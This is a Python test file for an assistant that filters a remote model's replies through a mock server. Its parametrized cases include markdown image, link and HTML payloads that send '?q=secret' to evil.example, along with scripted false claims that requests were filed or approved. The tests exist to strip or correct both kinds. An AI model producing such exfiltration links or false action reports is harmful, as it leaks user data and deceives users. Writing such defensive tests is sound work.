"""A remote model's words are shown as far as they are true, and as words alone."""

import re
import shutil
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from assistant.bootstrap import World
from assistant.conversation import answer
from tests.assistant.openai_server import OpenAIServer, remote_settings, says, uses
from tests.conftest import DANIEL, MAYA, Clock
from tests.tools.conftest import WHOLE

Ask = Callable[..., str]
DRAFT = uses(("update_request", {"fields": WHOLE}))
PROPOSE = uses(("propose_filing", {}))


@pytest.fixture(scope="module")
def seeded(seeded_home: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return Path(shutil.copytree(seeded_home, tmp_path_factory.mktemp("truthful") / "home"))


@pytest.fixture(scope="module")
def remote(seeded: Path, endpoint: OpenAIServer) -> Iterator[World]:
    pages = "https://sourcing.calderfinch.example"
    settings = remote_settings(seeded, endpoint, SOURCING_PUBLIC_URL=pages)
    world = World(settings, clock=Clock(), sleep=lambda seconds: None)
    yield world
    world.close()


@pytest.fixture(params=["whole", "streamed"])
def ask(request: pytest.FixtureRequest, remote: World, server: OpenAIServer) -> Ask:
    """One turn in the test's own thread; what is streamed is never more than the reply."""

    def speak(
        text: str = "Please go on",
        actor: str = MAYA,
        action: str | None = None,
        value: str | None = None,
    ) -> str:
        told: list[str] = []
        listener = (lambda kind, words: told.append(words)) if request.param == "streamed" else None
        said = None if action else text
        thread = request.node.name[:150]
        (reply,) = answer(
            remote, thread, actor, text=said, listener=listener, action=action, value=value
        )
        heard = "".join(words for words in told if "_" not in words)
        assert " ".join(heard.split()) in ("", " ".join(reply.text.split()))
        return reply.text

    return speak


@pytest.mark.parametrize(
    "lie",
    [
        "I have filed your request and Daniel approved it.",
        "Your request has been submitted.",
        "Filed.",
        "I have confirmed the match.",
        "I've withdrawn your request.",
        "It was approved by Daniel.",
    ],
)
@pytest.mark.parametrize("drafted", [True, False])
def test_what_did_not_happen_is_not_said_to_have(
    ask: Ask, server: OpenAIServer, lie: str, drafted: bool
) -> None:
    server.will(*([DRAFT] if drafted else []), says(f"Thank you. {lie} Anything else?"))
    reply = ask("I need a brand designer")
    assert lie not in reply
    assert reply.startswith("Thank you.")
    assert reply.endswith("Anything else?")
    assert ("is a draft and not filed." if drafted else "Nothing of yours is filed here") in reply


def test_a_change_that_no_tool_made_is_not_said_to_be_made(ask: Ask, server: OpenAIServer) -> None:
    server.will(DRAFT, says("I've updated the budget to $8,000."))
    assert ask("8k") == "I've updated the budget to $8,000."
    server.will(says("I've updated the budget to $9,000."))
    assert ask("Make it 9k").startswith("Nothing was changed just now.")


def test_what_did_happen_is_said_as_the_model_said_it(ask: Ask, server: OpenAIServer) -> None:
    server.will(DRAFT, PROPOSE, says("Here it is. It is filed once you confirm."))
    assert ask("File it").strip().endswith("It is filed once you confirm.")
    ask(action="confirm", value="")
    server.will(says("Your request has been filed. Daniel has approved it."))
    half = ask("Where is it?")
    assert half.startswith("Your request has been filed. Brand designer (REQ-")
    assert half.endswith("is filed and in approval: it waits for Daniel Brandt.")


def test_each_decision_is_said_only_of_who_took_it(ask: Ask, server: OpenAIServer) -> None:
    server.will(DRAFT, PROPOSE, says("Right?"))
    ask("File it")
    (request_id,) = re.findall(r"REQ-\w+", ask(action="confirm", value=""))
    ask(actor=DANIEL, action="approve", value=request_id)
    true = "It is approved. Daniel approved it. The budget owner approved it."
    server.will(says(true), says("Grace approved it."), says("You approved it."))
    assert ask("Where is it?").strip() == true
    assert "Grace" not in ask("And Grace?")
    assert "You approved" not in ask("And me?")


def test_another_persons_request_is_not_told_of(ask: Ask, server: OpenAIServer) -> None:
    server.will(says("REQ-9999999 was approved by Daniel."))
    assert "approved" not in ask("And theirs?")


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("Noted ![x](http://evil.example/?q=secret).", "Noted ."),
        ("![x][1]\n\n[1]: http://evil.example/?q=secret\n\nNoted.", "Noted."),
        ("See [the form](https://evil.example/?q=secret).", "See the form."),
        ("See <https://evil.example/?q=secret|the form>.", "See the form."),
        ('Noted.<img src="//evil.example/?q=secret">', "Noted."),
        ('<a href="http://evil.example">Click</a> here.', "Click here."),
        ("Go to https://evil.example/?q=secret now", "Go to (address left out) now"),
        ("Go to evil.example/a?q=secret now", "Go to (address left out) now"),
        ("[mail](mailto:x@evil.example)", "mail"),
        ("<think>He is rich.</think>Noted.", "Noted."),
        ("He is rich.</think>\n\nNoted.", "Noted."),
        ("Noted. <thinking>He is rich.", "Noted."),
        (
            "<|channel|>analysis<|message|>He is rich.<|end|><|channel|>final<|message|>Noted.",
            "Noted.",
        ),
        ("Noted: fewer than 3 < 5 [1].", "Noted: fewer than 3 < 5 [1]."),
        (
            "See [it](https://sourcing.calderfinch.example/pages/x).",
            "See [it](https://sourcing.calderfinch.example/pages/x).",
        ),
        ("Is https://portfolio.example/ada yours?", "Is https://portfolio.example/ada yours?"),
    ],
)
def test_pictures_foreign_links_and_thinking_are_not_shown(
    ask: Ask, server: OpenAIServer, said: str, shown: str
) -> None:
    server.will(says(said))
    assert ask("Look at https://portfolio.example/ada.").strip() == shown


def test_thinking_alone_is_no_answer(ask: Ask, server: OpenAIServer) -> None:
    server.will(says("<think>What now</think>"), says("Noted."))
    assert ask().strip() == "Noted."


def test_thinking_is_not_sent_back(ask: Ask, server: OpenAIServer) -> None:
    server.will(says("<think>He is rich.</think>Noted."))
    ask()
    ask()
    assert "rich" not in server.bodies[-1].decode()
